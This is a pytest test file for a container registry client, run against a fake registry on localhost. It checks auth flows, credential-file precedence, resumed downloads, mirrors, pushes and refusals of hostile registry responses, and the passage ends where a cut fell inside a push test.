"""The registry client against a tiny in-process fake registry on 127.0.0.1 (no root)."""

from __future__ import annotations

import base64
import fcntl
import gzip
import hashlib
import http.client
import io
import json
import os
import ssl
import tarfile
import threading
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from sandbox_kernel.errors import (
    DigestMismatch,
    ImageError,
    ImageNotFound,
    RegistryError,
    UnsafeArchiveError,
)
from sandbox_kernel.images import lookup, oci, reference, registry
from sandbox_kernel.images.extract import ExtractLimits
from sandbox_kernel.images.store import ImageStore


def _sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def _layer(name: str, content: bytes) -> tuple[bytes, str]:
    """A gzip layer with one file; returns (blob, diff_id)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        info = tarfile.TarInfo(name)
        info.size = len(content)
        info.mode = 0o644
        tf.addfile(info, io.BytesIO(content))
    tar = raw.getvalue()
    return gzip.compress(tar, mtime=0), _sha(tar)


@dataclass
class Fake:
    """What the fake registry serves and what it saw."""

    manifests: dict[str, tuple[str, bytes]] = field(default_factory=dict)  # ref -> (type, body)
    blobs: dict[str, bytes] = field(default_factory=dict)
    auth: str = "none"  # none | basic | bearer
    user: str = "alice"
    password: str = "s3cret"
    token: str = "tok-123"
    cut_after: dict[str, int] = field(default_factory=dict)  # digest -> bytes sent, once
    redirect_blobs_to: str = ""  # base URL of another server
    content_type_override: dict[str, str] = field(default_factory=dict)
    max_body: int = 0  # a PUT or PATCH with more bytes is answered 413 (0: no limit)
    chunks: bytes = b""  # what the PATCHes of the upload session sent so far
    seen: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def blob_gets(self, digest: str) -> list[dict[str, str]]:
        return [h for m, p, h in self.seen if m == "GET" and p.endswith(f"/blobs/{digest}")]


def _serve(fake: Fake) -> tuple[ThreadingHTTPServer, str]:
    class H(BaseHTTPRequestHandler):
        def log_message(self, *a: Any) -> None:
            pass

        def _send(
            self, code: int, body: bytes = b"", headers: dict[str, str] | None = None
        ) -> None:
            self.send_response(code)
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(body)

        def _authorized(self) -> bool:
            got = self.headers.get("Authorization", "")
            if fake.auth == "basic":
                want = base64.b64encode(f"{fake.user}:{fake.password}".encode()).decode()
                if got == f"Basic {want}":
                    return True
                self._send(401, b"{}", {"WWW-Authenticate": 'Basic realm="fake"'})
                return False
            if fake.auth == "bearer":
                if got == f"Bearer {fake.token}":
                    return True
                host = f"127.0.0.1:{self.server.server_port}"  # type: ignore[attr-defined]
                self._send(
                    401,
                    b'{"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]}',
                    {
                        "WWW-Authenticate": f'Bearer realm="http://{host}/token",'
                        'service="fake",scope="repository:lib/app:pull"'
                    },
                )
                return False
            return True

        def do_HEAD(self) -> None:
            self.do_GET()

        def do_POST(self) -> None:
            with fake.lock:
                fake.seen.append(("POST", self.path, dict(self.headers.items())))
            if not self._authorized():
                return
            fake.chunks = b""  # a new upload session
            if "mount=" in self.path:
                digest = self.path.split("mount=")[1].split("&")[0].replace("%3A", ":")
                if digest in fake.blobs:
                    self._send(201, b"", {"Location": f"/v2/x/blobs/{digest}"})
                    return
            self._send(202, b"", {"Location": "/v2/upload/abc?state=1"})

        def _too_large(self) -> bool:
            if fake.max_body and int(self.headers.get("Content-Length", "0")) > fake.max_body:
                self.rfile.read(int(self.headers["Content-Length"]))  # as nginx drains it
                self._send(413, b'{"errors":[{"code":"SIZE_INVALID","message":"too large"}]}')
                self.close_connection = True
                return True
            return False

        def do_PATCH(self) -> None:
            with fake.lock:
                fake.seen.append(("PATCH", self.path, dict(self.headers.items())))
            if not self._authorized() or self._too_large():
                return
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            start, _, end = self.headers.get("Content-Range", "").partition("-")
            if not self.path.startswith("/v2/upload/abc?state=") or int(start) != len(fake.chunks):
                self._send(416)
                return
            fake.chunks += body
            assert int(end) == len(fake.chunks) - 1
            n = len(fake.chunks)
            self._send(202, b"", {"Location": f"/v2/upload/abc?state={n}", "Range": f"0-{n - 1}"})

        def do_PUT(self) -> None:
            with fake.lock:
                fake.seen.append(("PUT", self.path, dict(self.headers.items())))
            if not self._authorized() or self._too_large():
                return
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            if self.path.startswith("/v2/upload/abc?state=") and "&digest=" in self.path:
                body, fake.chunks = fake.chunks + body, b""
                digest = self.path.split("digest=")[1].replace("%3A", ":")
                if _sha(body) != digest:
                    self._send(400, b'{"errors":[{"code":"DIGEST_INVALID","message":"bad"}]}')
                    return
                fake.blobs[digest] = body
                self._send(201)
                return
            if "/manifests/" in self.path:
                ct = self.headers.get("Content-Type", "")
                fake.manifests[self.path.rsplit("/", 1)[1]] = (ct, body)
                self._send(201, b"", {"Docker-Content-Digest": _sha(body)})
                return
            self._send(404)

        def do_GET(self) -> None:  # noqa: PLR0911 - one fake server
            with fake.lock:
                fake.seen.append(("GET", self.path, dict(self.headers.items())))
            if self.path.startswith("/token"):
                want = base64.b64encode(f"{fake.user}:{fake.password}".encode()).decode()
                if (
                    self.headers.get("Authorization") != f"Basic {want}"
                    or "scope=" not in self.path
                ):
                    self._send(401, b'{"errors":[{"code":"DENIED","message":"bad login"}]}')
                    return
                self._send(200, json.dumps({"token": fake.token}).encode())
                return
            if not self._authorized():
                return
            parts = self.path.split("/")
            if "/manifests/" in self.path:
                ref = parts[-1]
                if ref not in fake.manifests:
                    self._send(404, b'{"errors":[{"code":"MANIFEST_UNKNOWN","message":"no"}]}')
                    return
                mt, body = fake.manifests[ref]
                mt = fake.content_type_override.get(ref, mt)
                self._send(200, body, {"Content-Type": mt, "Docker-Content-Digest": _sha(body)})
                return
            if "/blobs/" in self.path:
                digest = parts[-1]
                if fake.redirect_blobs_to:
                    self._send(307, b"", {"Location": f"{fake.redirect_blobs_to}{self.path}"})
                    return
                blob = fake.blobs.get(digest)
                if blob is None:
                    self._send(404, b'{"errors":[{"code":"BLOB_UNKNOWN","message":"no"}]}')
                    return
                start = 0
                rng = self.headers.get("Range", "")
                if rng.startswith("bytes="):
                    start = int(rng[6:].split("-")[0])
                body = blob[start:]
                cut = fake.cut_after.pop(digest, None)
                self.send_response(206 if start else 200)
                self.send_header("Content-Length", str(len(body)))
                if start:
                    self.send_header("Content-Range", f"bytes {start}-{len(blob) - 1}/{len(blob)}")
                self.end_headers()
                if self.command == "HEAD":
                    return
                if cut is not None:
                    self.wfile.write(body[:cut])
                    self.wfile.flush()
                    self.close_connection = True
                    self.connection.shutdown(2)
                    return
                self.wfile.write(body)
                return
            self._send(404)

    srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv, f"127.0.0.1:{srv.server_address[1]}"


@pytest.fixture
def fake() -> Iterator[tuple[Fake, str]]:
    f = Fake()
    srv, host = _serve(f)
    try:
        yield f, host
    finally:
        srv.shutdown()
        srv.server_close()


@pytest.fixture(autouse=True)
def _no_auth_files(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for var in ("REGISTRY_AUTH_FILE", "XDG_CONFIG_HOME", "DOCKER_CONFIG", registry.MIRRORS_ENV):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "no-runtime-dir"))


def _image(f: Fake, tag: str = "v1", n: int = 2) -> tuple[bytes, list[bytes]]:
    """Put a ``n``-layer Docker v2 image under ``lib/app:tag``; returns (manifest, layers)."""
    layers, diff_ids = [], []
    for i in range(n):
        blob, diff = _layer(f"f{i}.txt", f"layer {i} of {tag}\n".encode() * 500)
        layers.append(blob)
        diff_ids.append(diff)
        f.blobs[_sha(blob)] = blob
    config = oci.dump_json(
        {
            "architecture": "amd64",
            "os": "linux",
            "config": {"Env": ["A=1"], "Cmd": ["/bin/sh"]},
            "rootfs": {"type": "layers", "diff_ids": diff_ids},
        }
    )
    f.blobs[_sha(config)] = config
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": oci.MT_DOCKER_MANIFEST,
            "config": {
                "mediaType": oci.MT_DOCKER_CONFIG,
                "digest": _sha(config),
                "size": len(config),
            },
            "layers": [
                {"mediaType": oci.MT_DOCKER_LAYER_GZIP, "digest": _sha(b), "size": len(b)}
                for b in layers
            ],
        },
        indent=3,
    ).encode()
    f.manifests[tag] = (oci.MT_DOCKER_MANIFEST, manifest)
    f.manifests[_sha(manifest)] = (oci.MT_DOCKER_MANIFEST, manifest)
    return manifest, layers


def _store(tmp_path: Path) -> ImageStore:
    return ImageStore(tmp_path / "store")


# --- references and credentials ------------------------------------------------------------


def test_reference_parsing() -> None:
    p = reference.parse_reference
    assert p("python") == reference.Reference("docker.io", "library/python", "latest", None)
    assert p("jupyter/base-notebook:2024") == reference.Reference(
        "docker.io", "jupyter/base-notebook", "2024", None
    )
    assert p("localhost/x") == reference.Reference("localhost", "x", "latest", None)
    assert p("127.0.0.1:5000/course/py:2.7").name == "127.0.0.1:5000/course/py"
    assert p("registry.example.edu/course/python:2.7").registry == "registry.example.edu"
    d = "sha256:" + "a" * 64
    r = p(f"quay.io/a/b@{d}")
    assert (r.tag, r.digest, r.store_tag) == (None, d, "sha256-" + "a" * 64)
    assert p(f"quay.io/a/b:t@{d}").store_tag == "t"
    for bad in ("Python", "a/B:t", "x@sha256:zz", "quay.io/a:b:c", "x:-bad"):
        with pytest.raises(ImageError):
            p(bad)


def test_credentials_file_order_and_parsing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def write(path: Path, auths: dict[str, Any]) -> Path:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps({"auths": auths}))
        return path

    def enc(s: str) -> str:
        return base64.b64encode(s.encode()).decode()

    def who(reg: str, repo: str = "lib/app") -> tuple[str, ...]:
        c = registry.credentials_from_files(reg, repo)
        return () if c is None else (c.username, c.password, c.source)

    home = tmp_path / "home"
    run = tmp_path / "run"
    monkeypatch.delenv("XDG_RUNTIME_DIR")
    uid_run = Path("/run/containers") / str(os.geteuid()) / "auth.json"
    # the one order: REGISTRY_AUTH_FILE, podman's runtime file (or /run/containers/UID),
    # podman's config file, DOCKER_CONFIG, ~/.docker
    assert registry.auth_files() == [
        uid_run,
        home / ".config/containers/auth.json",
        home / ".docker/config.json",
    ]
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(run))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "dcfg"))
    monkeypatch.setenv("REGISTRY_AUTH_FILE", str(tmp_path / "auth.json"))
    assert registry.auth_files() == [
        tmp_path / "auth.json",
        run / "containers/auth.json",
        tmp_path / "cfg/containers/auth.json",
        tmp_path / "dcfg/config.json",
        home / ".docker/config.json",
    ]
    for var in ("XDG_CONFIG_HOME", "DOCKER_CONFIG", "REGISTRY_AUTH_FILE"):
        monkeypatch.delenv(var)

    docker = write(
        home / ".docker/config.json",
        {
            "https://index.docker.io/v1/": {"auth": enc("hub:pw:with:colons")},
            "reg.example:5000": {"auth": enc("d:1")},
        },
    )
    assert who("docker.io", "library/python") == ("hub", "pw:with:colons", str(docker))
    assert who("reg.example:5000") == ("d", "1", str(docker))
    # podman's file under ~/.config comes before docker's
    config = write(
        home / ".config/containers/auth.json", {"reg.example:5000": {"auth": enc("c:3")}}
    )
    assert who("reg.example:5000") == ("c", "3", str(config))
    podman = write(run / "containers/auth.json", {"reg.example:5000": {"auth": enc("p:2")}})
    assert who("reg.example:5000") == ("p", "2", str(podman))
    # keys naming a namespace or a repository: the most specific one for the repository wins
    write(
        podman,
        {
            "reg.example:5000": {"auth": enc("p:registry")},
            "reg.example:5000/course": {"auth": enc("p:namespace")},
            "reg.example:5000/course/python": {"auth": enc("p:repository")},
            "docker.io/jupyter": {"auth": enc("p:hub-namespace")},
        },
    )
    assert who("reg.example:5000", "course/python")[:2] == ("p", "repository")
    assert who("reg.example:5000", "course/other")[:2] == ("p", "namespace")
    assert who("reg.example:5000", "courses/python")[:2] == ("p", "registry")
    assert who("reg.example:5000", "")[:2] == ("p", "registry")
    assert who("docker.io", "jupyter/base-notebook")[:2] == ("p", "hub-namespace")
    # a file with only another namespace's entry does not hide the next file's
    write(podman, {"reg.example:5000/other": {"auth": enc("p:other")}})
    assert who("reg.example:5000", "course/python") == ("c", "3", str(config))
    first = write(tmp_path / "auth.json", {"http://reg.example:5000/": {"auth": enc("r:pw-xyzzy")}})
    monkeypatch.setenv("REGISTRY_AUTH_FILE", str(first))
    c = registry.credentials_from_files("reg.example:5000")
    assert c is not None and (c.username, c.password) == ("r", "pw-xyzzy")
    assert "xyzzy" not in repr(c)  # the password is never shown
    assert registry.credentials_from_files("other.example") is None
    first.write_text("{not json")
    with pytest.raises(ImageError, match=r"auth\.json is not valid JSON"):
        registry.credentials_from_files("reg.example:5000")


def test_password_stdin_strips_one_newline() -> None:
    assert registry.password_from_stdin(io.StringIO("pw\n\n")) == "pw\n"
    assert registry.password_from_stdin(io.StringIO("pw")) == "pw"


def test_endpoint_and_mirrors() -> None:
    assert registry.endpoint("127.0.0.1:5000", ca=None, insecure=False) == "http://127.0.0.1:5000"
    assert registry.endpoint("[::1]:5000", ca=None, insecure=False) == "http://[::1]:5000"
    assert registry.endpoint("reg.example", ca=None, insecure=False) == "https://reg.example"
    assert registry.endpoint("reg.example", ca=None, insecure=True) == "http://reg.example"
    assert registry.endpoint("localhost:1", ca=Path("ca.pem"), insecure=False).startswith("https")
    assert registry.endpoint("docker.io", ca=None, insecure=False) == "https://registry-1.docker.io"
    env = "docker.io=http://127.0.0.1:5000, quay.io=https://m.example/"
    assert registry.mirrors("docker.io", env) == ["http://127.0.0.1:5000"]
    with pytest.raises(ImageError, match="REGISTRY=http"):
        registry.mirrors("docker.io", "docker.io=ftp://x")


# --- pulls ---------------------------------------------------------------------------------


def test_pull_anonymous_keeps_digest_and_names(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    manifest, _ = _image(f)
    store = _store(tmp_path)
    im = registry.pull(store, f"{host}/lib/app:v1", name="app:7")
    assert im.digest == _sha(manifest)  # the registry's manifest, byte for byte
    assert (im.name, im.tag) == (f"{host}/lib/app", "v1")
    assert store.resolve("app:7").digest == im.digest
    assert dict(im.config.env) == {"A": "1"}
    assert (im.layers[1].snapshot / "f1.txt").read_bytes().startswith(b"layer 1 of v1")
    by_digest = registry.pull(_store(tmp_path / "b"), f"{host}/lib/app@{_sha(manifest)}")
    assert by_digest.digest == _sha(manifest)
    assert by_digest.tag == "sha256-" + oci.digest_hex(_sha(manifest))


def test_bearer_challenge_flow(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    f.auth = "bearer"
    _image(f)
    creds = registry.Credentials("alice", "s3cret")
    registry.pull(_store(tmp_path), f"{host}/lib/app:v1", creds=creds)
    tokens = [p for m, p, h in f.seen if p.startswith("/token")]
    assert tokens and "scope=repository%3Alib%2Fapp%3Apull" in tokens[0]
    assert "service=fake" in tokens[0]
    with pytest.raises(RegistryError, match=r"401 Unauthorized .*token request.*DENIED: bad login"):
        registry.pull(
            _store(tmp_path / "x"), f"{host}/lib/app:v1", creds=registry.Credentials("alice", "no")
        )
    with pytest.raises(RegistryError, match=rf"lib/app:v1: registry {host} answered 401"):
        registry.pull(_store(tmp_path / "y"), f"{host}/lib/app:v1")


def test_basic_auth_from_auth_file(
    fake: tuple[Fake, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    f, host = fake
    f.auth = "basic"
    _image(f)
    auth = tmp_path / "auth.json"
    auth.write_text(
        json.dumps({"auths": {host: {"auth": base64.b64encode(b"alice:s3cret").decode()}}})
    )
    monkeypatch.setenv("REGISTRY_AUTH_FILE", str(auth))
    registry.pull(_store(tmp_path), f"{host}/lib/app:v1")
    auth.write_text(
        json.dumps({"auths": {host: {"auth": base64.b64encode(b"alice:bad").decode()}}})
    )
    with pytest.raises(RegistryError, match=rf"check the user name .*{auth}"):
        registry.pull(_store(tmp_path / "b"), f"{host}/lib/app:v1")


def _index(f: Fake, entries: list[tuple[str, str, bytes]]) -> None:
    doc = {
        "schemaVersion": 2,
        "mediaType": oci.MT_DOCKER_LIST,
        "manifests": [
            {
                "mediaType": mt,
                "digest": _sha(body),
                "size": len(body),
                "platform": {"os": "linux", "architecture": arch},
            }
            for arch, mt, body in entries
        ],
    }
    body = json.dumps(doc).encode()
    f.manifests["multi"] = (oci.MT_DOCKER_LIST, body)


def test_manifest_list_platform_selection(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    amd, _ = _image(f, "amd")
    arm, _ = _image(f, "arm")
    _index(f, [("arm64", oci.MT_DOCKER_MANIFEST, arm), ("amd64", oci.MT_DOCKER_MANIFEST, amd)])
    a = registry.pull(_store(tmp_path), f"{host}/lib/app:multi", platform="linux/amd64")
    b = registry.pull(_store(tmp_path), f"{host}/lib/app:multi", platform="linux/arm64")
    assert (a.digest, b.digest) == (_sha(amd), _sha(arm))
    with pytest.raises(RegistryError, match=r"no image for linux/s390x .*linux/amd64, linux/arm64"):
        registry.pull(_store(tmp_path), f"{host}/lib/app:multi", platform="linux/s390x")


def test_media_type_confusion_refused(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    _image(f, "amd")
    index_body = json.dumps(
        {"schemaVersion": 2, "mediaType": oci.MT_OCI_INDEX, "manifests": []}
    ).encode()
    # an index labelled as a manifest by the registry
    f.manifests["idx"] = (oci.MT_DOCKER_MANIFEST, index_body)
    with pytest.raises(UnsafeArchiveError, match="media-type confusion"):
        registry.pull(_store(tmp_path), f"{host}/lib/app:idx")
    # an index entry that names an index as the platform's manifest
    f.manifests[_sha(index_body)] = (oci.MT_OCI_INDEX, index_body)
    _index(f, [("amd64", oci.MT_OCI_INDEX, index_body)])
    with pytest.raises(UnsafeArchiveError, match="media-type confusion"):
        registry.pull(_store(tmp_path), f"{host}/lib/app:multi", platform="linux/amd64")
    # a manifest body under an index's content type
    f.content_type_override["amd"] = oci.MT_OCI_INDEX
    with pytest.raises(UnsafeArchiveError, match="media-type confusion"):
        registry.pull(_store(tmp_path), f"{host}/lib/app:amd")
    assert _store(tmp_path).list() == []


def test_oversized_manifest_refused(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    f.manifests["big"] = (oci.MT_OCI_MANIFEST, b" " * (oci.MAX_JSON_BYTES + 1))
    with pytest.raises(UnsafeArchiveError, match=r"over the .*-byte limit"):
        registry.pull(_store(tmp_path), f"{host}/lib/app:big")


def test_digest_mismatch_stores_nothing(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    _manifest, layers = _image(f)
    bad = bytearray(layers[1])
    bad[-5] ^= 0xFF
    f.blobs[_sha(layers[1])] = bytes(bad)  # same size, other content
    store = _store(tmp_path)
    with pytest.raises(DigestMismatch, match=r"digest mismatch.*nothing stored"):
        registry.pull(store, f"{host}/lib/app:v1")
    assert store.list() == []
    assert not store.has_blob(_sha(layers[1]))
    # the bad download is gone too; another layer's download cut short by the failure may
    # stay, as a .part the next pull resumes
    left = {p.name for p in store.tmp_dir.iterdir()}
    assert f"pull-{oci.digest_hex(_sha(layers[1]))}.part" not in left
    assert left <= {f"pull-{oci.digest_hex(_sha(x))}.part" for x in layers}


def test_redirect_to_another_host_gets_no_credentials(
    fake: tuple[Fake, str], tmp_path: Path
) -> None:
    f, host = fake
    f.auth = "basic"
    _image(f)
    other = Fake(blobs=dict(f.blobs))
    srv, other_host = _serve(other)
    try:
        f.redirect_blobs_to = f"http://{other_host}"
        registry.pull(
            _store(tmp_path), f"{host}/lib/app:v1", creds=registry.Credentials("alice", "s3cret")
        )
    finally:
        srv.shutdown()
        srv.server_close()
    assert other.seen, "the blobs were fetched from the other host"
    assert all("Authorization" not in h for _m, _p, h in other.seen)
    assert any("Authorization" in h for _m, _p, h in f.seen)


def test_cut_connection_resumes_with_range(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    _manifest, layers = _image(f)
    d = _sha(layers[0])
    f.cut_after[d] = len(layers[0]) // 2
    im = registry.pull(_store(tmp_path), f"{host}/lib/app:v1")
    gets = f.blob_gets(d)
    assert len(gets) == 2
    assert gets[1].get("Range") == f"bytes={len(layers[0]) // 2}-"
    assert im.layers[0].digest == d


def test_present_layers_not_fetched_again(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    _image(f, "v1")
    store = _store(tmp_path)
    first = registry.pull(store, f"{host}/lib/app:v1")
    f.seen.clear()
    again = registry.pull(store, f"{host}/lib/app:v1")
    assert again.digest == first.digest
    for layer in first.layers:
        assert f.blob_gets(layer.digest) == []


def test_a_part_left_by_an_earlier_pull_is_resumed(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    _manifest, layers = _image(f)
    store = _store(tmp_path)
    store._init()
    d = _sha(layers[0])
    part = store.tmp_dir / f"pull-{oci.digest_hex(d)}.part"
    part.write_bytes(layers[0][:100])  # what an interrupted pull left
    registry.pull(store, f"{host}/lib/app:v1")
    assert [h.get("Range") for h in f.blob_gets(d)] == ["bytes=100-"]
    assert not part.exists()
    # a left part that proves bad is fetched once more from the start
    store2 = _store(tmp_path / "b")
    store2._init()
    part2 = store2.tmp_dir / part.name
    part2.write_bytes(b"x" * 100)
    f.seen.clear()
    im = registry.pull(store2, f"{host}/lib/app:v1")
    assert [h.get("Range") for h in f.blob_gets(d)] == ["bytes=100-", None]
    assert im.layers[0].digest == d


def test_a_blob_another_pull_is_fetching_is_waited_for_not_fetched_twice(
    fake: tuple[Fake, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    f, host = fake
    _manifest, layers = _image(f)
    store = _store(tmp_path)
    store._init()
    d = _sha(layers[0])
    lock = store.tmp_dir / f"pull-{oci.digest_hex(d)}.lock"
    fd = os.open(lock, os.O_RDWR | os.O_CREAT, 0o600)
    fcntl.flock(fd, fcntl.LOCK_EX)  # another pull is downloading layer 0 into this store
    waiting = threading.Event()
    real_sleep = time.sleep

    def sleep(s: float) -> None:  # the pull's wait for the lock (nothing else here sleeps)
        waiting.set()
        real_sleep(s)

    monkeypatch.setattr(time, "sleep", sleep)
    out: list[Any] = []
    t = threading.Thread(target=lambda: out.append(registry.pull(store, f"{host}/lib/app:v1")))
    t.start()
    try:
        assert waiting.wait(timeout=30)
        assert f.blob_gets(d) == []  # it waits: it does not append to the other's .part
        part = store.tmp_dir / "other.part"  # the other pull installs the blob, then lets go
        part.write_bytes(layers[0])
        diff_id = _sha(gzip.decompress(layers[0]))
        store.add_layer_file(
            part, oci.MT_DOCKER_LAYER_GZIP, d, expected_size=len(layers[0]),
            expected_diff_id=diff_id,
        )  # fmt: skip
        lock.unlink()
    finally:
        os.close(fd)
        t.join(timeout=30)
    assert len(out) == 1 and out[0].layers[0].digest == d
    assert f.blob_gets(d) == []  # taken from the store, never fetched twice
    assert len(f.blob_gets(_sha(layers[1]))) == 1
    assert list(store.tmp_dir.glob("pull-*")) == []


def test_a_wrong_diff_id_keeps_no_blob(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    manifest, layers = _image(f)
    # the config names another diff_id for layer 0: blob verified, content refused
    cfg_digest = json.loads(manifest)["config"]["digest"]
    cfg = json.loads(f.blobs[cfg_digest])
    cfg["rootfs"]["diff_ids"][0] = "sha256:" + "0" * 64
    new_cfg = oci.dump_json(cfg)
    f.blobs[_sha(new_cfg)] = new_cfg
    doc = json.loads(manifest)
    doc["config"] = {
        "mediaType": oci.MT_DOCKER_CONFIG,
        "digest": _sha(new_cfg),
        "size": len(new_cfg),
    }
    f.manifests["bad"] = (oci.MT_DOCKER_MANIFEST, json.dumps(doc).encode())
    store = _store(tmp_path)
    with pytest.raises(DigestMismatch):
        registry.pull(store, f"{host}/lib/app:bad")
    assert store.list() == []
    assert not store.has_blob(_sha(layers[0]))


def test_mirror_first_then_the_registry(
    fake: tuple[Fake, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    f, host = fake
    _image(f)
    empty = Fake()  # a mirror without the image: 404, then the registry itself
    srv, mirror = _serve(empty)
    try:
        monkeypatch.setenv(registry.MIRRORS_ENV, f"{host}=http://{mirror}")
        im = registry.pull(_store(tmp_path), f"{host}/lib/app:v1")
        assert im.name == f"{host}/lib/app"
        assert [p for _m, p, _h in empty.seen] == ["/v2/lib/app/manifests/v1"]
        # a mirror that has it serves the whole pull
        empty.manifests, empty.blobs = dict(f.manifests), dict(f.blobs)
        f.seen.clear()
        registry.pull(_store(tmp_path / "b"), f"{host}/lib/app:v1")
        assert f.seen == []
    finally:
        srv.shutdown()
        srv.server_close()


def test_push_checks_mounts_uploads_then_puts_the_manifest(
    fake: tuple[Fake, str], tmp_path: Path
) -> None:
    f, host = fake
    f.auth = "basic"
    src = Fake()
    manifest, layers = _image(src)
    srv, src_host = _serve(src)
    store = _store(tmp_path)
    try:
        im = registry.pull(store, f"{src_host}/lib/app:v1")
    finally:
        srv.shutdown()
        srv.server_close()
    creds = registry.Credentials("alice", "s3cret")
    f.blobs[_sha(layers[0])] = layers[0]  # already there: HEAD says so, nothing sent
    said: list[str] = []
    digest = registry.push(im, store, f"{host}/course/app:1", creds=creds, say=said.append)
    assert digest == _sha(manifest)
    assert f.manifests["1"] == (oci.MT_DOCKER_MANIFEST, manifest)  # byte for byte
    heads = [p for m, p, _h in f.seen if m == "GET" and "/blobs/" in p]  # HEAD is served by GET
    assert len(heads) >= 3
    puts = [p for m, p, _h in f.seen if m == "PUT" and "digest=" in p]
    assert len(puts) == 2 and not any(oci.digest_hex(_sha(layers[0])) in p for p in puts)
    assert any("already there" in m for m in said)
    # pushing the pushed image within its registry mounts its blobs
    im2 = registry.pull(store, f"{host}/course/app:1", creds=creds)
    f.seen.clear()
    f.blobs.pop(_sha(layers[1]))
    registry.push(im2, store, f"{host}/course/other:1", creds=creds, say=said.append)
    mounts = [p for m, p, _h in f.seen if m == "POST" and "mount=" in p]
    assert mounts and "from=course%2Fapp" in mounts[0]
    # a wrong password: one clear error naming the registry
    with pytest.raises(RegistryError, match=rf"registry {host} answered 401"):
        registry.push(im, store, f"{host}/course/app:2", creds=registry.Credentials("alice", "x"))


# --- a hostile registry (each test was a reviewer's reproduction) --------------------------


def _serve_fn(fn: Any) -> tuple[ThreadingHTTPServer, str]:
    """A server on 127.0.0.1 whose every request is answered by ``fn(handler)``."""

    class H(BaseHTTPRequestHandler):
        def log_message(self, *a: Any) -> None:
            pass

        def do_GET(self) -> None:
            fn(self)

        do_HEAD = do_POST = do_PUT = do_GET  # noqa: N815

    srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv, f"127.0.0.1:{srv.server_address[1]}"


def _send(h: BaseHTTPRequestHandler, code: int, body: bytes = b"", **headers: str) -> None:
    h.send_response(code)
    for k, v in headers.items():
        h.send_header(k.replace("_", "-"), v)
    h.send_header("Content-Length", str(len(body)))
    h.end_headers()
    if h.command != "HEAD":
        h.wfile.write(body)


@dataclass
class _Sent:
    method: str
    url: str
    auth: str | None
    body: bytes | None


def _scripted(monkeypatch: pytest.MonkeyPatch, answer: Any) -> list[_Sent]:
    """Replace the client's transport: ``answer(method, url, headers)`` gives (status,
    headers) for each request, which is recorded (with what its body sent) and never leaves
    this process."""
    sent: list[_Sent] = []

    class Nothing:
        def read(self, n: int = -1) -> bytes:
            return b""

        def close(self) -> None:
            pass

    def fake_open(
        self: registry.Client, method: str, url: str, headers: dict[str, str], body: Any
    ) -> registry._Response:
        data = body if isinstance(body, bytes) or body is None else body.read()
        sent.append(_Sent(method, url, headers.get("Authorization"), data))
        status, hdrs = answer(method, url, headers)
        msg = http.client.HTTPMessage()
        for k, v in hdrs.items():
            msg[k] = v
        return registry._Response(status, "x", msg, Nothing(), Nothing(), url)  # type: ignore[arg-type]

    monkeypatch.setattr(registry.Client, "_open", fake_open)
    return sent


def test_cli_credentials_never_go_to_a_mirror(
    fake: tuple[Fake, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    f, host = fake
    f.auth = "basic"
    _image(f)
    mirror = Fake(auth="basic")  # a mirror's operator who just asks for Basic
    srv, mhost = _serve(mirror)
    try:
        monkeypatch.setenv(registry.MIRRORS_ENV, f"{host}=http://{mhost}")
        creds = registry.Credentials("alice", "s3cret")
        im = registry.pull(_store(tmp_path), f"{host}/lib/app:v1", creds=creds)
    finally:
        srv.shutdown()
        srv.server_close()
    assert im.name == f"{host}/lib/app"  # the mirror refused; the registry served it
    assert mirror.seen and all("Authorization" not in h for _m, _p, h in mirror.seen)
    # a plain http mirror on another host only with --insecure
    with pytest.raises(ImageError, match=r"plain http mirror .*--insecure"):
        registry.mirrors("docker.io", "docker.io=http://mirror.example")
    assert registry.mirrors("docker.io", "docker.io=http://m.example", insecure=True)
    # never an Authorization over plain http to another host without --insecure
    parts = urllib.parse.urlsplit("http://reg.example/v2/")
    assert not registry.Client("http://reg.example", "r").may_authorize(parts)
    assert registry.Client("http://reg.example", "r", insecure=True).may_authorize(parts)


def test_push_refuses_an_upload_location_downgrading_or_elsewhere(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    blob = tmp_path / "blob"
